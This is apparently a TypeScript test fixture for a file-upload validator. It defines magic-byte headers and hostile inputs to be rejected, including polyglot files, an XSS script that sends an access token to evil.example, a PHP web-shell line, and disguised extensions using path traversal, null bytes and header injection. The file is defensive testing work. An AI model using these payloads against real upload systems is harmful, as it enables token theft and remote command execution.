import { type Extension, extensions } from '#contract/documents.ts'
import { pdf } from '#support/given.ts'

const script = '<script>fetch("//evil.example/"+localStorage.accessToken)</script>'
const head = (hex: string, text = '') => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.from(text)])

/** The shortest magic bytes of each type. */
const heads: Record<Extension, Buffer<ArrayBuffer>> = {
  pdf,
  zip: head('504b0304140000000800', 'file'),
  jpg: head('ffd8ffe000104a46494600010100000100010000ffd9'),
  jpeg: head('ffd8ffe000104a46494600010100000100010000ffd9'),
  png: head(
    '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000a49444154789c6360000002000154a24f620000000049454e44ae426082',
  ),
  webp: head('524946461a000000574542505650384c0d0000002f00000010071011118888fe0700'),
  docx: office('word/document.xml', 'wordprocessingml.document'),
  pptx: office('ppt/presentation.xml', 'presentationml.presentation'),
  xlsx: office('xl/workbook.xml', 'spreadsheetml.sheet'),
}

/** A ZIP archive with one stored file, the content-types list of an Office file. */
function office(part: string, kind: string): Buffer<ArrayBuffer> {
  const name = Buffer.from('[Content_Types].xml')
  const type = `application/vnd.openxmlformats-officedocument.${kind}.main+xml`
  const data = Buffer.from(`<Types><Override PartName="/${part}" ContentType="${type}"/></Types>`)
  const local = Buffer.alloc(30)
  local.write('PK\x03\x04', 'latin1')
  local.writeUInt32LE(data.length, 18)
  local.writeUInt32LE(data.length, 22)
  local.writeUInt16LE(name.length, 26)
  return Buffer.concat([local, name, data, Buffer.from('PK\x05\x06'), Buffer.alloc(18)])
}

export interface Content {
  name: string
  bytes: Buffer<ArrayBuffer>
  /** The types that its magic bytes allow. */
  is: readonly Extension[]
}

const family = (kind: Extension): readonly Extension[] => {
  if (kind === 'jpg' || kind === 'jpeg') return ['jpg', 'jpeg']
  // An Office file is also a ZIP and may be served as one.
  return ['docx', 'pptx', 'xlsx'].includes(kind) ? [kind, 'zip'] : [kind]
}

const never = (name: string, bytes: Buffer<ArrayBuffer> | string): Content => ({
  name,
  bytes: Buffer.from(bytes),
  is: [],
})

/** Valid magic bytes followed by active content: may be stored, must never run. */
const polyglots: Content[] = extensions.flatMap((kind) =>
  [script, `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, '/*`*/=1;alert(1)//'].map((tail, index) => ({
    name: `${kind} and active content ${index}`,
    bytes: Buffer.concat([heads[kind], Buffer.from(`\n${tail}`)]),
    is: family(kind),
  })),
)

export const contents: readonly Content[] = [
  ...polyglots,
  never('html', `<!doctype html><html>${script}</html>`),
  never('html behind a mark', `\ufeff<html>${script}`),
  never('html in UTF-16', Buffer.from(`\ufeff<html>${script}`, 'utf16le')),
  never('html behind blanks', `${' '.repeat(2_000)}<html>${script}`),
  never('html naming a PDF late', `<html>${script}${'x'.repeat(1_100)}%PDF-1.4`),
  never('svg', `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
  never('xhtml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
  never('script', 'alert(document.domain)'),
  never('module', 'export default alert(1)'),
  never('gif that is a script', 'GIF89a=1;alert(1)//'),
  never('bitmap that is a script', 'BM=1;alert(1)//'),
  never('php', '<?php system($_GET["c"]); ?>'),
  never('shell', '#!/bin/sh\nid'),
  never('windows program', head('4d5a90000300000004000000ffff0000')),
  never('linux program', head('7f454c46020101000000000000000000')),
  never('web archive', 'MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html>'),
  never('half a mark of zip', head('504b')),
  never('half a mark of png', head('89504e470d0a1a')),
  never('RIFF that is no picture', head('524946462400000057415645666d7420')),
  never('rar', head('526172211a0701003392b5e50a0105060005010180800063')),
  never('seven-zip', head('377abcaf271c0004')),
  never('flash', head('435753089b010000')),
  never('one byte', '%'),
  never('NULs', Buffer.alloc(5_000)),
]

const real = (kind: Extension): Content => ({ name: `a real ${kind}`, bytes: heads[kind], is: family(kind) })
export const reals: readonly Content[] = extensions.map(real)

const others =
  `html htm xhtml xht shtml svg svgz xml xsl xslt mht mhtml js mjs cjs jsx ts wasm css json swf jar hta vbs vbe ps1 bat
cmd com exe scr msi dll sys cpl lnk url reg inf pif app dmg pkg deb rpm apk ipa sh bash zsh csh py pl rb php php3 php5
phtml phar asp aspx jsp jspx cgi do cfm lua sql sqlite db bak old swp tmp log ini conf env htaccess htpasswd pem key
crt doc dot docm dotm xls xlt xlsm xlsb ppt pps pptm potx odt ods odp rtf txt md csv tsv tex eps ps ai psd gif bmp tif
tiff ico cur heic avif jxl raw mp3 mp4 avi mov mkv webm ogg wav flac rar 7z tar gz tgz bz2 xz zst iso img vhd bin dat
eml msg ics vcf torrent swift go rs java class kt c h cpp o so a lib obj stl step dwg dxf ttf otf woff woff2 eot map
webmanifest appcache wml xul plist desktop service crx xpi vsix nupkg gem whl egg`.split(/\s+/)

/** Spellings of an allowed extension that a parser may read as another one. */
const disguises: ((kind: string) => unknown)[] = [
  (kind) => kind.toUpperCase(),
  (kind) => `.${kind}`,
  (kind) => `${kind}.html`,
  (kind) => `html.${kind}`,
  (kind) => `${kind} `,
  (kind) => `${kind}\u0000`,
  (kind) => `${kind}%00`,
  (kind) => `../${kind}`,
  (kind) => `${kind}/../../x`,
  (kind) => `..\\${kind}`,
  (kind) => `\u202e${kind}`,
  (kind) => `${kind}\u200b`,
  (kind) => `${kind};html`,
  (kind) => `${kind}\r\nx: y`,
  (kind) => kind.replace('p', 'р'),
  (kind) => [kind],
  (kind) => ({ toString: kind }),
]

/** Three hundred forbidden extensions. */
export const badExtensions: readonly unknown[] = [
  ...disguises.flatMap((disguise) => extensions.map(disguise)),
  ...[
    '',
    ' ',
    null,
    true,
    0,
    -1,
    [],
    {},
    '__proto__',
    'constructor',
    'p'.repeat(300),
    'p'.repeat(60_000),
    '%',
    '.',
    '..',
  ],
  ...others,
]
  .filter((value) => !(extensions as readonly unknown[]).includes(value))
  .slice(0, 300)
